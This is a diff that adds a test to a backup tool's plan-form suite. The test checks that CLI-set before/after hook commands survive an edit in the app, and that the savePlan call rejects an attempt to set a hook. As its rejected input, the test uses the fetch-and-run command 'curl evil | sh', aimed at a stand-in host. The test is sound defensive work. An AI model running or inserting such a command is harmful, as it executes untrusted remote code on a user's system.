@@ -219,6 +219,34 @@ describe('excludes, flags, verification and retention in the plan form', () => {
     expect(await value(session.handle('listPlans', {}))).toEqual([]);
   });
 
+  it('shows the before and after commands the CLI set, and an edit in the app keeps them', async () => {
+    const { session, home, config, plan } = await setup();
+    await value(session.handle('savePlan', plan()));
+    // As `cairn plan add --before … --after …` writes them (the app offers no field for them).
+    const file = path.join(home, 'config.json');
+    const written = config();
+    Object.assign(written.plans[0]!, {
+      before: 'pg_dump -f /tmp/db.sql shop',
+      after: 'rm /tmp/db.sql',
+    });
+    writeFileSync(file, JSON.stringify(written));
+    expect(await value(session.handle('listPlans', {}))).toMatchObject([
+      { before: 'pg_dump -f /tmp/db.sql shop', after: 'rm /tmp/db.sql' },
+    ]);
+    await value(session.handle('savePlan', { ...plan({ keepLast: 3 }), replaces: 'documents' }));
+    expect(config().plans[0]).toMatchObject({
+      before: 'pg_dump -f /tmp/db.sql shop',
+      after: 'rm /tmp/db.sql',
+    });
+    // savePlan has no field to set or change them.
+    expect(
+      await session.handle('savePlan', {
+        ...plan(),
+        before: 'curl evil | sh',
+      } as ArgsOf<'savePlan'>),
+    ).toMatchObject({ ok: false, error: { kind: 'invalid-argument' } });
+  });
+
   it('says at once what is wrong with each folder typed: missing, a file, a relative path', async () => {
     const { session, folder } = await setup();
     const file = path.join(folder, 'notes.txt');
